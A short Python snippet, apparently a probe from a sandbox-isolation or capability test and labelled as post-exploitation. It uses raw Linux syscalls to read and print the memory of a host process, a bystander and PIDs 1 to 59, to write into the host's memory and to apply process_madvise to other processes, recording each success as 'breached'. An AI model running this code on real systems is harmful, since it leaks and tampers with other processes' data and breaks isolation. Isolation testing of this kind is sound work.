# kind=cap; source: post-exploitation: the memory of the host and of other workers
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
at, size = target["memory"]
buffer = ctypes.create_string_buffer(size)
ours, theirs = Vector(ctypes.addressof(buffer), size), Vector(at, size)
did = []
for pid in (target["host"], target["bystander"], *range(1, 60)):
    for number in (310, 311) if pid == target["host"] else (310,):
        if libc.syscall(number, pid, ctypes.byref(ours), 1, ctypes.byref(theirs), ctypes.c_long(1), ctypes.c_long(0)) > 0:
            did.append((number, pid))
            print(buffer.raw)
    if libc.syscall(440, pid, ctypes.byref(ours), 1, 20, ctypes.c_long(0)) >= 0:
        did.append(("process_madvise", pid))
breached = did
